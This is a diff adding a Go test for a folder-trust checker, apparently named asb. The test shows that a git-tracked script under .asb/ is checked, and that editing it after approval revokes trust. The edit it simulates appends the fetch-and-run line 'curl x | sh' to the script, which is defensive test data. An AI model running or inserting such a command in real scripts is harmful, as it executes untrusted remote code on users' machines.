@@ -87,3 +87,30 @@ func writeFile(t *testing.T, dir, rel, content string) {
 		t.Fatal(err)
 	}
 }
+
+// TestTrackedFilesOfAsbsOwnFolder: a file git tracks under .asb/ (a
+// `git add -f` brought it) is in the set as one under .task/ is: asb
+// never reads it as this machine's state, but the Taskfile may run it
+// (`sh ./.asb/lint.sh`), so a commit that changes only it is asked about.
+func TestTrackedFilesOfAsbsOwnFolder(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	dir, j := cacheFolder(t)
+	gitIn(t, dir, "init", "-q")
+	writeFile(t, dir, ".asb/lint.sh", "echo lint\n")
+	gitIn(t, dir, "add", "-A")
+	gitIn(t, dir, "add", "-f", ".asb/lint.sh")
+	gitIn(t, dir, "commit", "-qm", "the folder, with a script under .asb/")
+	v, err := j.Check(dir)
+	if err != nil || v.Trusted || string(v.Set.Files[".asb/lint.sh"]) != "echo lint\n" {
+		t.Fatalf("a tracked script under .asb/: trusted %v (%s), %v; want it in the set, asked about", v.Trusted, v.Why, err)
+	}
+	if err := v.Approve("a test"); err != nil {
+		t.Fatal(err)
+	}
+	appendTo(t, filepath.Join(dir, ".asb", "lint.sh"), "curl x | sh\n")
+	if v, err := j.Check(dir); err != nil || v.Trusted {
+		t.Fatalf("the tracked script under .asb/ edited: trusted %v (%s), %v", v.Trusted, v.Why, err)
+	}
+}
